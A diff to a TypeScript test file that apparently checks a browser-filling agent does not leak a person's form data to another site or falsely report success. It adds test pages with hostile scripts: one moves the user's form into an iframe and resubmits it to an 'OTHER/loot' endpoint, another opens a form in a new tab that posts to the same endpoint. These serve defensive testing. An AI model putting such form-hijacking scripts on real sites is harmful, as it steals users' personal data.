@@ -179,6 +179,18 @@ const PLACED: Record<string, [what: string, page: string]> = {
 }
 Object.assign(PAGES, TURNED, PLACED)
 
+/** A page that shows an end although nothing was sent. */
+const UNSENT: Record<string, [what: string, page: string]> = {
+  adopted: [
+    'a form that a press moves into a frame, to send it to another site',
+    `${form('method=post action="/own"', '<button id=b>Send</button>', OWN)}<iframe id=x src="/empty" width=300 height=60></iframe><script>addEventListener('pointerdown', () => { const own = x.contentDocument.adoptNode(document.forms[0]); Object.assign(own, { action: 'OTHER/loot', target: '_top' }); x.contentDocument.body.append(own); own.requestSubmit() }, true)</script>`,
+  ],
+  thanked: [
+    'thanks in a tab that the page opens while it is filled in',
+    `${form('method=post action="/own"', '<button id=b>Send</button>', OWN)}<script>let done; addEventListener('input', () => { if (done) return; done = document.createElement('form'); Object.assign(done, { method: 'post', target: '_blank', rel: 'noopener', action: 'OTHER/loot' }); document.body.append(done); done.submit() }, true)</script>`,
+  ],
+}
+
 interface Place {
   pages: Pages
   /** What the other site learned: all that its fields contained, and all that was sent to it. */
@@ -192,7 +204,8 @@ const newPlace = async (): Promise<Place> => {
     return '<title>Thank you</title><h1>Thank you!</h1>'
   }
   const pages = await servePages({
-    ...Object.fromEntries(Object.entries(PAGES).map(([id, [, page]]) => [`/${id}`, page])),
+    ...Object.fromEntries(Object.entries({ ...PAGES, ...UNSENT }).map(([id, [, page]]) => [`/${id}`, page])),
+    '/empty': '<title>Empty</title>',
     '/spy': `<title>Join</title><h1>Join</h1>${SPY}<form action="/loot">${FIELDS}<p><button>Send</button></form>`,
     '/holder': '<title>Holder</title><iframe src="OTHER/spy" width=560 height=480 title="Details"></iframe>',
     '/turning': `<title>Join</title>${OWN}<p><label>Phone <input name=tel type=tel autocomplete=tel></label><script>addEventListener('input', () => { location.href = 'OTHER/spy' })</script>`,
@@ -278,6 +291,18 @@ describe.concurrent('no data of a person reaches another site', { timeout: WAIT_
       expect(keys(place).length).toBeLessThanOrEqual(1)
       expect(place.pages.asked.join('\n')).not.toContain('Grey-heron')
     }),
+  )
+
+  test.each(Object.entries(UNSENT).map(([id, [what]]) => [what, id] as const))(
+    '%s: it is not reported as sent',
+    (_, id) =>
+      inPlace(async (place) => {
+        const { status } = await run(place, `/${id}`, {}, ({ kind }) =>
+          resolutionOf(kind, kind === 'approve_origin' ? 'refuse' : 'stop'),
+        )
+        expect(place.pages.posted.filter(({ body }) => body.includes('email'))).toEqual([])
+        expect(status).not.toBe('completed')
+      }),
   )
 
   test('a secret is never in an address, not even of the job’s own site', () =>
